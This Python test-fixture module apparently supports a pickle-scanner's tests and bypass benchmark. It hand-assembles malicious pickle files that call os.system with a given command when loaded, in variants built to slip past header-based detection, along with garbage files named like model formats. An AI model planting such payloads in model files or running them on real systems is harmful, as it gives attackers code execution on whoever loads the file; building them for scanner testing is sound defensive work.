"""The bypass classes of issue #13 as families of files, each built opcode by opcode or with
zipfile/struct, never pickled from live objects and never loaded.

Each family maps a file name to its bytes; every malicious file would run ``command`` when loaded
with ``pickle.load``, ``torch.load(weights_only=False)`` or ``joblib.load``. The tests, the
marker-file test and the bypass benchmark all use these families.
"""

from __future__ import annotations

import random

from .builders import su


def _call_tail(command: str) -> bytes:
    """``<callable on the stack>(command)`` then STOP."""
    return su(command) + b"\x85R."


def headerless(command: str) -> dict[str, bytes]:
    """Class 1: pickles without a PROTO header, starting with any opcode, using the memo."""
    sg = su("os") + b"\x94" + su("system") + b"\x93"
    via_memo = su("os") + b"q\x00" + b"0" + b"h\x00" + su("system") + b"\x93"
    tail = _call_tail(command)
    cases = {
        "short_binunicode.pkl": via_memo + tail,
        "unicode.pkl": b"Vos\np0\n0g0\nVsystem\n\x93" + tail,
        "string.pkl": b"S'os'\np0\n0g0\nS'system'\n\x93" + tail,
        "binunicode.pkl": b"X\x02\x00\x00\x00osX\x06\x00\x00\x00system\x93" + tail,
        "mark.pkl": b"(" + sg + su(command) + b"\x85Rt.",
        "none_pop.pkl": b"N0" + sg + tail,
        "binint.pkl": b"K\x010" + sg + tail,
        "empty_dict.pkl": b"}" + sg + su(command) + b"\x85R0.",
        "frame.pkl": b"\x95" + (len(sg) + 4).to_bytes(8, "little") + sg + tail,
        "proto0_mixed.pkl": b"(Vos\nVsystem\n\x93S'" + command.encode() + b"'\ntR.",
        "memo_long.pkl": su("os") + b"r\x07\x00\x00\x000j\x07\x00\x00\x00" + su("system") + b"\x93"
        + tail,
        "no_extension": via_memo + tail,
        "weights.dat": b"Vos\np0\n0g0\nVsystem\n\x93" + tail,
    }  # fmt: skip
    return {f"headerless_{name}": data for name, data in cases.items()}


def unparseable(seed: int = 13) -> dict[str, bytes]:
    """Class 2: garbage and broken streams named like model files."""
    rng = random.Random(seed)

    def noise(n: int) -> bytes:
        return bytes(rng.randrange(256) for _ in range(n))

    garbage = noise(4096)
    names = [
        "model.pkl", "model.pickle", "model.pt", "model.pth", "model.ckpt", "model.joblib",
        "model.dill", "model.safetensors", "model.gguf", "model.onnx", "model.h5", "model.keras",
        "model.npy", "model.npz", "model.tflite", "model.msgpack", "model.mlmodel",
    ]  # fmt: skip
    cases = {name: b"\xff" + garbage[1:] for name in names}
    cases["truncated.pkl"] = b"\x80\x04\x95\x10" + b"\x00" * 7 + su("collections")
    cases["bad_opcode.pkl"] = b"\x80\x04" + su("os") + b"\xfe" + noise(64)
    return {f"unparseable_{name}": data for name, data in cases.items()}
